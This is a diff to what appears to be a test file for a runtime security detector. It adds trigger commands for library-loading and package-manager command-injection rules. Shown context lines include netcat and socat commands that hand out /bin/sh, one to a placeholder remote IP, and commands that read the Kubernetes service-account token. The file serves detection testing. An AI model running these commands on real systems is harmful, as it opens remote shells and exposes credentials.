@@ -76,7 +76,8 @@ DEEDS = {
     "Shell reads from the network": ("deed socket-stdin sh -c :", "deed socket-stdin deed nothing"),
     "Interactive shell without a terminal": ("echo : | sh -i", "echo : | sh -e"),
     "Privileged program loads a library from elsewhere": (
-        ": >/tmp/x.so; /usr/bin/dpkg read /tmp/x.so", ": >/usr/lib/x.so; /usr/bin/dpkg read /usr/lib/x.so; deed read /tmp/x.so"),
+        ": >/tmp/x.so; /usr/bin/dpkg read /tmp/x.so", ": >/usr/lib/x.so; /usr/bin/dpkg read /usr/lib/x.so; deed read /tmp/x.so; "
+        "mkdir -p /var/lib/dpkg; : >/var/lib/dpkg/libx.so.3-x86_64; /usr/bin/dpkg read /var/lib/dpkg/libx.so.3-x86_64"),
     "Program runs by the dynamic loader": ("$(echo /lib*/ld-linux-*.so.*) /bin/bash -c :",
                                            "$(echo /lib*/ld-linux-*.so.*) --list /bin/bash >/dev/null"),
     "Netcat runs a program": ("nc -e /bin/sh 203.0.113.9 1", "nc 203.0.113.9 1"),
@@ -253,7 +254,8 @@ OTHER_WAYS = {
     "Cgroup release agent written": ["mount -t cgroup -o none,name=t,release_agent=/x,nonesuch none /mnt", "deed release-agent"],
     "Disk mounted in a container": ["deed nobody fsopen xfs"],
     "User namespace made in a container": ["deed user"],
-    "Package manager is given a command": ["/usr/bin/rpm --eval '%(id)' || :"],
+    "Package manager is given a command": ["/usr/bin/rpm --eval '%(id)' || :", "/usr/bin/apt-get -c /opt/c update || :",
+                                           "/usr/bin/apt-get edit-sources x || :"],
     "Netcat runs a program": ["busybox nc 127.0.0.1 9 -e /bin/sh || :", "socat tcp:127.0.0.1:9 EXEC:/bin/sh || :"],
     "Service account token read by a tool": ["busybox cat /run/secrets/kubernetes.io/serviceaccount/token",
                                              "nl /run/secrets/kubernetes.io/serviceaccount/token",
@@ -356,7 +358,7 @@ exec /bin/pause
 
 
 # Of these the system has one, too.
-OF_THE_SYSTEM = "criu rpm dpkg gdb kubelet ping sshd strace systemctl traceroute.db useradd".split()
+OF_THE_SYSTEM = "apt-get criu rpm dpkg gdb kubelet ping sshd strace systemctl traceroute.db useradd".split()
 
 
 def more_deeds():
